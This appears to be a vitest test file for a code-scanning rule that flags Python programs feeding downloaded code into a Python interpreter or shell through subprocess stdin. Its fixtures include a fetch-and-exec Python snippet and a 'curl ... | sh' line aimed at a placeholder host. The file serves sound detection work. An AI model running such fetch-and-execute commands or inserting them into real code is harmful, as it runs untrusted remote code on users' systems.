import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import { read } from './reading.js';

async function found(text: string): Promise<readonly string[]> {
  const { facts } = await read(`import subprocess, sys\n${text}`);
  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
}

const CODE = '"import urllib.request as u\\nexec(u.urlopen(\'https://garden.example.invalid/leaf\').read())\\n"';
const LINE = '"curl -s https://garden.example.invalid/leaf | sh\\n"';

test.each([
  ['Python, after it was started', `p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.stdin.write(${CODE})\n`],
  ['Python, all at once', `p = subprocess.Popen([sys.executable, "-u", "-"], stdin=subprocess.PIPE)\np.communicate(${CODE})\n`],
  ['Python, with its start', `subprocess.run([sys.executable, "-"], input=${CODE}, text=True)\n`],
  ['a shell, after it was started', `p = subprocess.Popen("sh", stdin=subprocess.PIPE)\np.stdin.write(${LINE})\n`],
  ['a shell, all at once', `p = subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE)\np.communicate(${LINE})\n`],
  ['a shell, with its start', `subprocess.run("sh", input=${LINE}, text=True)\n`],
])('what is typed into %s runs', async (_, text) => {
  expect(await found(text)).toEqual(['critical']);
});

test.each([
  ['a program that reads no commands', `subprocess.run(["tee", "leaf.txt"], input=${LINE}, text=True)\n`],
  ['Python that has code of its own', `subprocess.run([sys.executable, "-c", "print(1)"], input=${LINE}, text=True)\n`],
])('what %s is told on its input does not', async (_, text) => {
  expect(await found(text)).toEqual([]);
});
